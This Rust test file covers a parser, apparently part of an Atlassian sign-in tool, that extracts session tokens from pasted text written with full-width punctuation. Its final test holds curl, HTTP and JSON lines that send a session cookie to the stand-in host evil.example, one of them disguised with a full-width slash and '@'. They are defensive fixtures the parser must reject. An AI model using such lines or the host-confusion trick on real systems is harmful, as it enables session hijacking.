//! Full-width punctuation, as East Asian keyboards and editors write it.

use atlctl_signin::capture::{CaptureError, Damage};

use crate::{OTHER, filled, found, read_all};

/// Each has one reading.
pub const READ: [&str; 11] = [
    "｛＂name＂：＂cloud.session.token＂，＂value＂：＂@T@＂，＂domain＂：＂.atlassian.com＂｝",
    "Cookie：a=1；@C@",
    "cloud.session.token：@T@",
    "cloud.session.token＝@T@",
    "curl ＇@URL@＇ －H ＇Cookie： a=1； @C@＇",
    r#"GET /x HTTP/1.1
Host： admin.atlassian.com
Cookie： @C@"#,
    "［｛“name”：“cloud.session.token”、“value”：“@T@”｝］",
    "{「name」：「cloud.session.token」，「value」：「@T@」}",
    "Ｃｏｏｋｉｅ： ｃｌｏｕｄ．ｓｅｓｓｉｏｎ．ｔｏｋｅｎ＝@T@",
    r#"fetch（"@URL@"，｛"headers"：｛"cookie"："@C@"｝｝）；"#,
    r#"{"log"：{"entries"：[{"request"：{"url"："@URL@"，"headers"：[{"name"："Cookie"，"value"："@C@"}]}}]}}"#,
];

#[test]
fn what_has_one_reading_is_repaired() {
    read_all(&READ, None);
}

#[test]
fn what_has_none_is_named_with_its_line() {
    for (text, line) in [
        ("curl ＇https：／／admin.atlassian.com＇ \\\n -b ＇@C@", 1),
        ("[\n{\"name\"：\"cloud.session.token\"，\"value\"：", 2),
        ("curl '@URL@' \\\n -H ＇x： y＇ -b '@C@", 2),
    ] {
        let damage = Damage::FullWidth;
        let error = CaptureError::Damaged { damage, line };
        assert_eq!(found(&filled(text, OTHER)), Err(error), "{text}");
    }
    // Where they are meant, something else is wrong.
    for text in [
        r#"{"log":{"pages":[{"title":"管理：用户，权限"}],"entries":["#,
        r#"[{"title":"「x」","value":"#,
    ] {
        let found = found(text);
        assert!(
            matches!(found, Err(CaptureError::BadJson { .. })),
            "{text}: {found:?}"
        );
    }
}

#[test]
fn no_session_of_another_host_is_given_away() {
    for text in [
        "curl ＇https://evil.example/＇ －H ＇Cookie： @C@＇",
        "curl 'https://admin.atlassian.com／@evil.example/' -b '@C@'",
        "GET /x HTTP/1.1\nHost： evil.example\nCookie： @C@",
        "｛＂url＂：＂https://evil.example＂，＂headers＂：｛＂Cookie＂：＂@C@＂｝｝",
    ] {
        assert!(found(&filled(text, OTHER)).is_err(), "{text}");
    }
}
